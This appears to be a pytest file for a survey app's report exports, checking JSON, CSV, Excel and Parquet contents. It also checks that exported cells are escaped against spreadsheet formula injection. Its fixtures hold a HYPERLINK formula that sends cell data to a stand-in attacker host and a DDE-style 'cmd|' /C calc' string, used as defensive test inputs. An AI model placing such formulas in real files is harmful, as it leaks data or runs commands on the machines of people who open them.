"""The files of a report, read back by programs that did not write them.

Of the most tempting names and the longest texts too: each cell that a program would compute is a text, and nothing is
cut, where pages may show less.
"""

import csv
import io
import json
import re
from collections.abc import Iterable
from contextlib import suppress
from dataclasses import replace

import numpy as np
import pytest
from django.test import Client

from accounts.models import Person
from mining.nodes.report_nodes import report_from_json
from mining.parameters import Parameters
from privacy.records import DISGUISED
from privacy.simulation.disguise import disguise
from reports.answer_labels import Labels
from reports.export_table import spreadsheet_cell
from reports.exports import estimation_formulas
from reports.models import Review
from reports.pages import named_pictures
from reports.review import read_published_content
from runs.models import Rule, Run
from tests.cast import make_once
from tests.intake import asked
from tests.jobs.conftest import broker
from tests.mining.disclosure.random_surveys import Study
from tests.reports import made
from tests.reports.conftest import (
    bundle,
    fetch_file,
    from_csv,
    from_excel,
    from_json,
    parquet_table,
    workbook,
)

pytestmark = [pytest.mark.django_db, pytest.mark.page]
TABLES = ["questions", "shares", "groups", "itemsets", "rules", "pairs", "open_and_disguised"]


@pytest.fixture
def published_files(published_review: Review, reading: Client) -> Client:
    """The owner, who may read rule 1 and the shares by age."""
    return reading


def test_json_export_is_the_report_with_its_context(published_files: Client) -> None:
    found, review = from_json(published_files), Review.objects.get()
    report = report_from_json(found["report"])
    stored = read_published_content.published_report_without_rules(review)
    assert replace(report, itemsets=(), rules=()) == replace(stored, itemsets=(), rules=())
    assert sorted(map(str, report.itemsets)) == sorted(map(str, stored.itemsets))
    rules = read_published_content.published_rule_nodes(review)
    assert sorted(map(str, report.rules)) == sorted(map(str, rules))
    assert (found["fingerprint"], found["records"], found["k"]) == (review.run.design, 1000, 0.2)
    assert (found["estimator"], found["engine"], found["version"]) == ("stratified", "bitmap", "mining 1")
    assert (found["day"], found["run"]) == ("2026-12-01", review.pk)
    assert found["design"]["sections"][1]["questions"][0]["text"]["zh-hans"] == "您带走过东西吗？"
    assert found["formulas"]["support"].startswith("P(S) = mean of z over base(S)")
    assert "score test" in found["formulas"]["confidence"]
    assert found["formulas"]["plain_answers"] == "counted; Clopper and Pearson"
    assert "at most 5 % are expected to miss" in found["formulas"]["listed"]
    assert "made_by_an_earlier_version" not in found
    assert found["published"] == {"when": "2026-12-01T09:00:00+00:00", "by": "reviewer"}
    assert any("who took part" in line for line in found["not_covered"])


def test_csv_excel_and_parquet_bring_each_table(published_files: Client) -> None:
    # Csv brings a file for each table.
    files = bundle(published_files, "csv")
    assert files.namelist() == [*(f"{table}.csv" for table in TABLES), "about.json"]
    assert json.loads(files.read("about.json"))["day"] == "2026-12-01"
    (rule,) = from_csv(published_files, "rules")
    assert (rule["antecedent"], rule["consequent"]) == ("theft=yes", "late=yes")
    assert rule["antecedent_in_words"] == "Have you taken something home? Yes"
    assert (rule["confidence"], rule["confidence_low"], rule["q"]) == ("0.72", "0.6", "0.01")
    itemsets = from_csv(published_files, "itemsets")
    assert [row["items"] for row in itemsets] == ["late=yes", "theft=yes", "theft=yes & late=yes"]
    assert [row["pooled"] for row in itemsets] == ["0.41", "0.26", "0.19"]
    assert [row["coherent"] for row in itemsets] == ["0.39", "0.26", "0.175"]
    assert [row["low_listed"] for row in itemsets] == ["0.36", "0.21", "0.12"]
    assert (rule["confidence_low_listed"], rule["lift_high_listed"]) == ("0.55", "2.35")
    assert (rule["number"], rule["association"], rule["eligible"], rule["among"]) == ("1", "1", "1000", "")
    names = ("converse", "converse_high_listed", "both", "said")
    assert [rule[name] for name in names] == ["0.3", "0.4", "False", "rule"]
    assert "heads" not in rule
    assert not {"certain", "disguised_only"} & {*rule, *itemsets[0]}
    groups = from_csv(published_files, "groups")
    assert (groups[0]["class"], groups[0]["item"], groups[0]["share"]) == ("age=18-39", "theft=yes", "0.35")
    assert groups[5]["share"] == ""
    questions = from_csv(published_files, "questions")
    assert [questions[3][name] for name in ("question", "choice", "keep")] == ["theft", "yes", "0.5000"]
    # Excel has a sheet for each table and one about.
    sheets = workbook(published_files)
    people = ["Findings", "Shares", "Groups", "Rules", "Method"]
    assert sheets.sheetnames == [*people, "Data about", *(f"Data {table}" for table in TABLES)]
    about = {row[0].value: row[1].value for row in sheets["Data about"].rows}
    assert about["formulas.support_interval"].startswith("all t in [0, 1] with |z(t)| <= z0 = 1.96")
    assert about["k"] == 0.2
    first = from_excel(published_files, "shares")[0]
    assert (first["items"], first["support"], first["low"]) == ("age=18-39", 0.4, 0.36)
    # Parquet has typed columns and carries what stands by it.
    table = parquet_table(published_files, "shares")
    assert table["support"].to_pylist()[3] == 0.25
    assert str(table.schema.field("base").type) == "int64"
    assert table.schema.metadata[b"candor:estimator"] == b"stratified"
    assert json.loads(table.schema.metadata[b"candor:formulas"])["q"].startswith("Benjamini")
    assert parquet_table(published_files, "rules").num_rows == 1


def test_the_workbook_says_shares_in_percent_and_intervals_in_two_columns(published_files: Client) -> None:
    sheets = workbook(published_files)
    head, first, *_rest = sheets["Shares"].iter_rows()
    assert [cell.value for cell in head] == [
        *("Answer", "Share", "Interval from", "Interval to", "People asked", "Among")
    ]
    assert [cell.value for cell in first[1:3]] == [0.4, 0.36]
    assert {cell.number_format for cell in first[1:4]} == {"0.0%"}
    assert all(
        sheets[name].freeze_panes == "A2" for name in ("Findings", "Shares", "Groups", "Rules", "Method")
    )
    group = next(sheets["Groups"].iter_rows(min_row=2, values_only=True))
    assert "=" not in str(group[0])
    assert sheets["Findings"].max_row > 1
    assert "Simulated" not in str([*sheets["Shares"].iter_rows(values_only=True)])


def test_a_workbook_of_simulated_answers_says_so_above_the_headings(
    owner: Person, reviewer: Person, reading: Client
) -> None:
    review = made.waiting_review(made.run(made.survey(owner, rehearsal=True)))
    made.publish(review, reviewer)
    sheets = workbook(reading, review)
    for name in ("Findings", "Shares", "Groups", "Rules", "Method"):
        assert sheets[name]["A1"].value == "Simulated answers."
        assert sheets[name].freeze_panes == "A3"


def test_files_hold_nothing_else_and_are_always_the_same(published_files: Client) -> None:
    # No file holds an unpublished rule.
    files = [fetch_file(published_files, "json").decode()]
    for kind in ("csv", "excel"):
        archive = bundle(published_files, kind)
        files += [archive.read(name).decode() for name in archive.namelist()]
    assert any("0.72" in text for text in files)
    for text in files:
        # An end of an interval may begin as the confidence of the rule does.
        assert not re.search(r"1\.04|0\.45\b", text)
    # The truth is a column only where it is known.
    for table in TABLES:
        assert "truth" not in bundle(published_files, "csv").read(f"{table}.csv").decode().splitlines()[0]
    # The same report gives the same bytes.
    for kind in ("json", "csv", "excel", "parquet"):
        assert fetch_file(published_files, kind) == fetch_file(published_files, kind)


def test_every_estimator_stands_with_the_formulas_that_it_uses() -> None:
    others = ("eligible", "shown", "among", "q", "both", "converse", "listed", "association", "order")
    for estimator, confidence, support in (
        ("stratified", "score test", "|z(t)|"),
        ("pooled", "Fieller", "psi"),
        ("combined", "Fieller", "A_g"),
    ):
        found = estimation_formulas.estimator_formulas(estimator)
        assert confidence in found["confidence"]
        assert support in found["support_interval"]
        assert {*others, "lift", "p"} <= set(found)


def test_a_rule_has_its_list_and_its_place_there(run: Run, reviewer: Person, reading: Client) -> None:
    made.rule_of_three(run, 4)
    made.publish(made.waiting_review(run), reviewer, (), 1, 2, 5)
    expected = [("pairs", 1), ("pairs", 2), ("larger", 1)]
    assert [(row["list"], int(row["place"])) for row in from_csv(reading, "rules")] == expected
    assert [(row["list"], row["place"]) for row in from_excel(reading, "rules")] == expected
    sheet = [row[:2] for row in workbook(reading)["Rules"].iter_rows(values_only=True)]
    title = "Ways to divide more than two answers"
    assert sheet[-4:] == [("List", "Place in the list"), ("Pairs", 1), ("Pairs", 2), (title, 1)]


def test_files_have_the_order_of_lists(run: Run, reviewer: Person, reading: Client) -> None:
    """Rules by their numbers, which are by p; itemsets by support."""
    kept = list(run.itemsets.order_by("place"))
    Rule.objects.bulk_create([made.rule(run, 4, kept, **made.RULES[0])])
    review = made.waiting_review(run)
    made.publish(review, reviewer, (), 1, 2, 3, 4, 5)
    assert [row["number"] for row in from_csv(reading, "rules")] == ["1", "2", "3", "4", "5"]
    assert [rule["number"] for rule in from_json(reading)["report"]["rules"]] == [*range(1, 6)]
    supports = [float(row["support"]) for row in from_csv(reading, "itemsets")]
    assert supports == sorted(supports, reverse=True)
    assert [row["number"] for row in from_excel(reading, "rules")] == [*range(1, 6)]
    # A report without rules has empty tables.
    without = made.waiting_review(made.run(review.survey))
    made.publish(without, reviewer)
    assert parquet_table(reading, "rules", without).num_rows == 0
    assert workbook(reading, without)["Data rules"].max_row == 1


def test_no_text_is_taken_for_a_formula_and_other_values_stay_as_they_are() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\n", "＝"):
        assert spreadsheet_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    cells = [spreadsheet_cell(value) for value in (-0.5, "theft=yes", None, True)]
    assert cells == [-0.5, "theft=yes", "", True]


__all__ = ["broker"]
FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
CHOICES = [{"name": "@SUM(A1)", "label": {"en": FORMULA}}, {"name": "-5+2", "label": {"en": "+1"}}]
YES_NO = [{"name": "no", "label": {"en": "-no"}}, {"name": "yes", "label": {"en": FORMULA}}]
QUESTION = (
    "Thinking of the last twelve months, and of nothing that happened before them: have you ever taken home from your "
    "place of work, without asking anybody, something that did not belong to you and that you did not bring back?"
)
OPTION = "something else that this long list of things to choose from does not name and that you would rather not name"

CHOSEN = [{"name": "no"}, {"name": "yes", "label": {"en": OPTION}}]
SENSITIVE = [
    {"name": "-theft", "text": {"en": "@-theft"}, "choices": YES_NO},
    {"name": "took_home", "text": {"en": QUESTION}, "choices": ["no", "yes"]},
    {"name": "other", "text": {"en": QUESTION}, "of": "things", "form": "many", "choices": CHOSEN},
]
ASKS = asked.make_design(
    {"kind": "plain", "questions": [{"name": "+where", "text": {"en": FORMULA}, "choices": CHOICES}]},
    {"kind": "unrelated-question", "keep": "0.9", "questions": SENSITIVE},
    title={"en": FORMULA},
    least=20,
)
WORDS = f"{QUESTION} Yes"


@pytest.fixture
def number_report(owner: Person, reviewer: Person) -> int:
    """Of a report: half of 600 people did all of it, so that there are rules."""

    def make() -> int:
        study, n = Study(owner, reviewer, ASKS), 600
        answers = np.arange(n, dtype=np.uint16) % 2
        true = np.stack([answers // 2 + (np.arange(n, dtype=np.uint16) // 300), answers, answers, answers])
        group = np.full(n, DISGUISED, np.uint8)
        study.seal(group, disguise(ASKS, group, true.astype(np.uint16), np.random.default_rng(1)))
        run = study.mine(Parameters(0.05, 0.2, absences=True))
        study.publish(run)
        assert Run.objects.get().rule_count
        return int(run.pk)

    return make_once(("tempting names",), make, lambda number: number, is_computed=True)


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV file that a spreadsheet program would take for formulas."""

    def is_number(cell: str) -> bool:
        with suppress(ValueError):
            return bool(float(cell)) or True
        return False

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)]


def texts(client: Client, number: int, pictures: Iterable[str]) -> dict[str, str]:
    with bundle(client, "csv") as files:
        found = {name: files.read(name).decode() for name in files.namelist() if name.endswith(".csv")}
    for name in pictures:
        answer = client.get(f"/app/reports/{number}/pictures/{name}.csv")
        if answer.status_code == 200:
            found[f"picture {name}"] = answer.content.decode()
    return found


def test_no_cell_of_a_reports_files_is_computed_and_nothing_is_cut(
    reading: Client, number_report: int
) -> None:
    found = texts(reading, number_report, named_pictures.ERRORS)
    assert {"questions.csv", "shares.csv", "groups.csv", "rules.csv", "picture error-keep"} <= set(found)
    assert {name: formula_cells(text) for name, text in found.items() if formula_cells(text)} == {}
    assert any(f"'{FORMULA[:10]}" in text for text in found.values())
    for name in ("shares", "groups", "itemsets", "rules", "pairs"):
        assert WORDS in found[f"{name}.csv"], name
        assert "…" not in found[f"{name}.csv"]
    assert any(QUESTION in row["antecedent_in_words"] for row in from_csv(reading, "rules"))
    assert OPTION in found["questions.csv"]
    assert WORDS in parquet_table(reading, "shares")["items_in_words"].to_pylist()
    # An answer in full is its question and its choice.
    labels = Labels(ASKS)
    assert labels.join_full(["took_home=yes"]) == WORDS
    assert labels.join_full(["took_home=yes", "other=yes"]) == f"{WORDS} and {QUESTION} {OPTION}"


def test_no_cell_of_the_workbook_is_computed_a_link_or_cut(reading: Client, number_report: int) -> None:
    sheets = workbook(reading)
    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    texts = [str(cell.value) for cell in cells]
    assert any(text.startswith(FORMULA) for text in texts)
    assert WORDS in texts
    # Findings are the sentences of the first page, with its short words.
    whole = [sheet for sheet in sheets if sheet.title != "Findings"]
    assert not [
        cell for sheet in whole for row in sheet.iter_rows() for cell in row if "…" in str(cell.value)
    ]
    sheet = sheets["Data rules"]
    words = next(cell for cell in sheet[1] if cell.value == "antecedent_in_words")
    # A long text is folded in its cell, so that the columns beside it stay in sight.
    assert sheet.column_dimensions[words.column_letter].width < 70
    assert sheet.column_dimensions[words.column_letter].alignment.wrap_text
